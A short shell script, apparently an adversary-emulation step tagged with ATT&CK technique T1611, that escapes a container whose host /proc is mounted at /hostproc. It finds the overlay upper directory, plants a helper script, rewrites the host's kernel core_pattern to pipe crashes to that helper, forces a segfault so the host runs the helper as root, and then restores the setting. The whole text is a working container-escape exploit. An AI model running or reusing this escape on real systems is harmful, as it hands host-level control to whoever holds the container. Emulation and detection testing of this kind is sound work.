#!/bin/sh
# Runs in a container that was given the host's /proc at /hostproc. The helper lies in
# the container's own root; the kernel finds it through the overlay's upper directory,
# whose place on the host the container reads in its own mount table.
UPPER=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/mounts | head -1)
cp /helper.sh /h.sh
chmod 755 /h.sh
OLD=$(cat /hostproc/sys/kernel/core_pattern)
echo "@T1611 core_pattern set to a program of the container"
echo "|$UPPER/h.sh" > /hostproc/sys/kernel/core_pattern
sh -c 'kill -SEGV $$'
echo "$OLD" > /hostproc/sys/kernel/core_pattern
sleep 1.5
echo "@end"
